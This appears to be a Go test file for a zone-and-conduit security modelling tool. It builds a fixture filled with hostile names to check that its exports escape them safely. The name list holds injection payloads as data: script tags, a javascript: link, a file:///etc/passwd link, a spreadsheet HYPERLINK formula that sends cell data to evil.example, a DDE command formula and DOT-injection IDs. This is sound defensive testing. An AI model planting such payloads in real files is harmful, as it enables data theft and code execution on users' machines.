package cli

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"zonewise/model"
)

// updateHostile rewrites the hostile fixture from hostileProject. The flag
// has its own name so that it never collides with another test's -update.
var updateHostile = flag.Bool("update-hostile", false, "rewrite testdata/hostile/hostile.zonewise.json")

// hostileFixture is the project every command must survive.
var hostileFixture = filepath.Join("testdata", "hostile", "hostile.zonewise.json")

// hostileNames try to break every consumer of a name: terminals, DOT, SVG,
// Markdown, text/template, HTML, CSV and spreadsheets, PDF text, bidi.
var hostileNames = []string{
	`Quote " and 'apostrophe' and back\slash \\ \" end`,
	"{braces} }{ {{.Name}} {{template \"x\"}} ${HOME} %s %!x %v",
	"<script>alert(1)</script> <b>bold</b> &amp; &lt; ]]> <![CDATA[x]]> <!-- c --> <?xml?>",
	"line one\nline two\r\n\tTabbed\vvtab\fformfeed",
	"ctl \x00 nul \x01 soh \x1b[31mred\x1b[0m del \x7f c1 \u0085 \u009b",
	"RTL \u202eexe.live\u202c עברית العربية \u200f\u2067iso\u2069",
	"emoji 🏭💧⚠️👩‍🔧🇩🇪 \U0001F9EA",
	"**x** | <script> {{.Name}} ]]>",
	"# heading\n- item\n| a | b |\n|---|---|\n```code``` [link](javascript:alert(1)) ![img](file:///etc/passwd)\n\\newpage",
	`=HYPERLINK("http://evil.example/?q="&A1,"click")`,
	"+1+2",
	"-1-2",
	"@SUM(A1:A9)",
	"\t=cmd|' /C calc'!A0",
	`"]; evil -> x [`,
	"}",
	`digraph { evil -> x } // /* */ # \N \G \L`,
	"Klärwerk Süd ÄÖÜäöüß",
}

// hostileLong is the 100,000-character name.
var hostileLong = strings.Repeat("Ä", 50_000) + strings.Repeat("<{\"", 16_666) + "xy"

// Hostile IDs: references to them must still resolve, and no ID may inject
// into DOT node names or SVG ids.
const (
	hostileZoneID    model.ID = `z"]; evil -> x [label="`
	hostileAssetID   model.ID = `<a id="x"> & {{.ID}}`
	hostileConduitID model.ID = "c}{\n\x1b"
)

// hostileProject is the sample plant with hostile text in every kind of
// object and in the project information, and three hostile IDs.
func hostileProject() *model.Project {
	p := model.Sample()
	n := func(i int) string { return hostileNames[i%len(hostileNames)] }
	p.Name = n(0) + " " + n(5)
	p.Client, p.Site, p.Author = n(6), n(2), n(3)
	p.Revision, p.Classification = n(9), n(1)
	p.SUC.Description, p.SUC.Scope = n(8), n(7)
	p.SUC.Assumptions = append(p.SUC.Assumptions, n(4), n(14))
	p.SUC.ExternalInterfaces = append(p.SUC.ExternalInterfaces, n(10), n(15))
	for i := range p.Approvals {
		p.Approvals[i].Name, p.Approvals[i].Title = n(i+10), n(i+2)
	}
	for i := range p.Actors {
		a := &p.Actors[i]
		a.Name, a.Description, a.Motivation = n(i+1), n(i+4), n(i+9)
	}
	for i := range p.Zones {
		z := &p.Zones[i]
		z.Name, z.Description = n(i), n(i+3)
		z.Organisation, z.LogicalBoundary, z.PhysicalBoundary = n(i+9), n(i+14), n(i+2)
		z.AccessPoints = append(z.AccessPoints, n(i+10))
		z.Assumptions = append(z.Assumptions, n(i+12))
		for j := range z.EssentialFunctions {
			z.EssentialFunctions[j].Name, z.EssentialFunctions[j].Notes = n(i+j+7), n(i+j+16)
		}
		for j := range z.Roles {
			z.Roles[j].Name, z.Roles[j].Privileges = n(i+j+11), n(i+j+13)
		}
		for j := range z.SLTOverrides {
			z.SLTOverrides[j].Justification = n(i + j + 8)
		}
		if z.SafetyDesignation != "" {
			z.SafetyDesignation = n(i+5) + " SIL 2"
		}
	}
	for i := range p.Conduits {
		c := &p.Conduits[i]
		c.Name, c.Description = n(i+14), n(i+6)
		c.AccessPoints = append(c.AccessPoints, n(i+12))
		for j := range c.Flows {
			c.Flows[j].Purpose = n(i + j)
			if j == 0 {
				c.Flows[j].Protocol = "OPC UA " + n(i+15)
			}
		}
	}
	for i := range p.Assets {
		a := &p.Assets[i]
		a.Name, a.Description = n(i+3), n(i+8)
		a.Vendor, a.Model, a.Firmware = n(i+9), n(i+10), n(i+11)
		for j := range a.FocusPoints {
			a.FocusPoints[j].Evidence = n(i + j + 12)
		}
	}
	for i := range p.Scenarios {
		s := &p.Scenarios[i]
		s.Name, s.Description, s.EntryPoint = n(i+11), n(i+2), n(i+14)
		if s.TreatmentNote != "" {
			s.TreatmentNote = n(i + 13)
		}
		for j := range s.Consequences {
			s.Consequences[j].Note = n(i + j + 10)
		}
	}
	for i := range p.Countermeasures {
		c := &p.Countermeasures[i]
		c.Owner, c.Notes = n(i+12), n(i+1)
		if c.Reason != "" {
			c.Reason = n(i + 9)
		}
	}
	for i := range p.Decisions {
		d := &p.Decisions[i]
		d.By, d.Subject, d.Decision, d.Rationale = n(i+3), n(i+14), n(i+10), n(i+7)
	}
	p.Zones[1].Name, p.Assets[2].Name = hostileLong, "x"+hostileLong
	p.Conduits[0].Description, p.Scenarios[0].Description = hostileLong, hostileLong
	renameID(p, p.Zones[2].ID, hostileZoneID)
	renameID(p, p.Assets[4].ID, hostileAssetID)
	renameID(p, p.Conduits[1].ID, hostileConduitID)
	return p
}

// renameID gives an object a new ID and updates every reference to it.
func renameID(p *model.Project, from, to model.ID) {
	r := func(id *model.ID) {
		if *id == from {
			*id = to
		}
	}
	for i := range p.Zones {
		r(&p.Zones[i].ID)
		r(&p.Zones[i].ParentID)
	}
	for i := range p.Conduits {
		c := &p.Conduits[i]
		r(&c.ID)
		for j := range c.ZoneIDs {
			r(&c.ZoneIDs[j])
		}
		for j := range c.Flows {
			r(&c.Flows[j].From)
			r(&c.Flows[j].To)
			r(&c.Flows[j].Initiator)
		}
	}
	for i := range p.Assets {
		r(&p.Assets[i].ID)
		r(&p.Assets[i].ZoneID)
	}
	for i := range p.Scenarios {
		r(&p.Scenarios[i].TargetID)
	}
	for i := range p.Countermeasures {
		r(&p.Countermeasures[i].TargetID)
	}
	for i := range p.Decisions {
		r(&p.Decisions[i].ObjectID)
	}
}

// TestHostileFixture checks the committed fixture. It is not compared with
// hostileProject byte for byte: the fixture would then break whenever the
// sample plant changes; -update-hostile rewrites it from the current sample.
func TestHostileFixture(t *testing.T) {
	if *updateHostile {
		if err := os.MkdirAll(filepath.Dir(hostileFixture), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(hostileFixture, mustMarshal(t, hostileProject()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	data, err := os.ReadFile(hostileFixture)
	if err != nil {
		t.Fatal(err)
	}
	p, err := model.Unmarshal(data)
	if err != nil {
		t.Fatalf("the fixture does not load: %v", err)
	}
	t.Run("the fixture validates without errors", func(t *testing.T) {
		for _, pr := range model.Validate(p) {
			if pr.Severity == model.SeverityError {
				t.Errorf("%.300s (rewrite it with -update-hostile if the sample changed)", pr)
			}
		}
	})
	t.Run("the fixture is what Marshal writes", func(t *testing.T) {
		if !bytes.Equal(mustMarshal(t, p), data) {
			t.Error("loading and saving the fixture changes it")
		}
	})
	t.Run("the fixture carries every hostile name, the long one and the hostile IDs", func(t *testing.T) {
		for _, name := range append(hostileNames, hostileLong, string(hostileZoneID), string(hostileAssetID), string(hostileConduitID)) {
			quoted := mustMarshal(t, &model.Project{Info: model.Info{Name: name}})
			i := bytes.Index(quoted, []byte(`"name": `)) + len(`"name": `)
			j := bytes.IndexByte(quoted[i:], '\n')
			if !bytes.Contains(data, bytes.TrimSuffix(quoted[i:i+j], []byte(","))) {
				t.Errorf("the fixture lacks %.60q", name)
			}
		}
	})
}
